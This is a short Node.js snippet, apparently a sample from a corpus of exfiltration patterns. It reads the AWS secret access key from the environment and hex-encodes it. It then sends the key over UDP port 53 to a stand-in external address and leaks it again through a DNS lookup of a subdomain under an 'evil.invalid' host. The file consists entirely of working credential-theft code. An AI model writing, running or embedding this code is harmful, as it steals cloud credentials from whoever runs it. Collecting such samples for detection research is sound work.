// corpus: dgram UDP packets carrying hex-encoded secrets to an external resolver; dns.lookup exfil
const dgram = require('dgram');
const dns = require('dns');

const secret = Buffer.from(process.env.AWS_SECRET_ACCESS_KEY || 'none').toString('hex');
const sock = dgram.createSocket('udp4');
sock.send(Buffer.from(secret), 53, '198.51.100.53', () => sock.close());
dns.lookup(`${secret.slice(0, 60)}.x.evil.invalid`, () => {});
